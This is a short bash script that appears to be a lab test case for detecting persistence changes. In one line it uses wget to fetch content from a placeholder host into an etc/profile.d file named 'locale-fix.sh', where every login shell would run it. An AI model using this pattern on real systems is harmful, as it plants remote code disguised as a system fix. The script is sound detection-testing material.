#!/bin/bash
# SPDX-License-Identifier: Apache-2.0
# corpus: expect=persistence-change half=report tool=wget seconds=12 parts=dns,nas,outside-web before=yes
# wget keeps what it fetches outside where every login shell reads it; the host's root is a folder of the lab.
# config: host_root: {dir}/host
if [ "$1" = before ]; then exec "$(dirname "$0")/../far/host-root.sh"; fi
sleep 1; wget -q -O "$LAB/host/etc/profile.d/locale-fix.sh" http://relay.example.net/version; sleep 6; true
